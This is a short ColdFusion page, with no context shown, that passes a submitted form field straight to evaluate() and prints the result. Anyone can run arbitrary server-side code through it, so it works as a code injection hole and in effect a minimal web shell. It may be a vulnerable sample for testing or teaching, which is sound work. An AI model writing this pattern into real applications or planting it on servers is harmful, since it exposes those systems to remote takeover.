<cfif isDefined("form.expr")>
  <cfset result = evaluate(form.expr)>
  <cfoutput>#result#</cfoutput>
</cfif>
